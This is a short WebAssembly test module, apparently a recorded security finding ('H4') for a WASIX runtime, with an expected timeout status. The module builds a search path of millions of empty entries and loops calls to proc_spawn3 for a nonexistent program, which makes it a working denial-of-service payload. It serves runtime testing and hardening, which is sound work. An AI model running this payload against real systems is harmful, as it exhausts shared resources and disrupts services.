;;: attacks = a search path of millions of empty folders, in starting a program
;;: finding = H4
;;: timeout = 1
;;: memory = 128M
;;: status = 124
(module
  (import "wasix_32v1" "proc_spawn3" (func $spawn (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32 i32) (result i32)))
  (memory (export "memory") 1900)
  (data (i32.const 0) "nosuchprogram\00")
  (data (i32.const 64) "\00\00\00\00")
  (func (export "_start")
    (memory.fill (i32.const 65536) (i32.const 58) (i32.const 120000000))
    (loop $again
      (drop (call $spawn (i32.const 0) (i32.const 13) (i32.const 64) (i32.const 1) (i32.const 0) (i32.const 0)
        (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 1) (i32.const 65536) (i32.const 120000000) (i32.const 128)))
      (br $again))))
